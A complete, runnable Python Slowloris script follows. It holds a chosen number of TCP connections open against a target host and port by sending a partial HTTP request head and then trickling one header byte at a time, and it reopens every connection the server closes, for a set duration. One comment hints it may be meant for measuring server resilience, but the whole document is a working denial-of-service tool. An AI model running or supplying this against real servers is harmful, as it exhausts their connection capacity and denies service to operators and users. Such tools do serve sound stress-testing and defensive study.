#!/usr/bin/env python3
"""Holds slow connections open against a server: each sends one header byte now and then and never ends its head.
slowloris.py HOST PORT CONNECTIONS SECONDS. Connections that the server closes are opened again."""
import selectors, socket, sys, time

host, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
start = b"GET /now HTTP/1.1\r\nHost: slow\r\nX-Slow: "
selector = selectors.DefaultSelector()
opened = closed = 0


def open_one():
    global opened
    connection = socket.create_connection((host, port), timeout=5)
    connection.sendall(start)
    connection.setblocking(False)
    selector.register(connection, selectors.EVENT_READ)
    opened += 1


for _ in range(count):
    open_one()
print(f"{count} slow connections are open", flush=True)
# Each connection sends a byte every half second, spread evenly: a burst of all at once would measure the burst.
pause = 0.005
share = max(1, round(count * pause / 0.5))
end = time.monotonic() + seconds
queue = []
while time.monotonic() < end:
    for key, _ in selector.select(timeout=0):
        try:
            data = key.fileobj.recv(4096)
        except OSError:
            data = b""
        if not data:
            selector.unregister(key.fileobj)
            key.fileobj.close()
            closed += 1
            open_one()
    for _ in range(share):
        if not queue:
            queue = list(selector.get_map().values())
        try:
            queue.pop().fileobj.send(b"a")
        except OSError:
            pass
    time.sleep(pause)
print(f"opened {opened}, closed by the server {closed}")
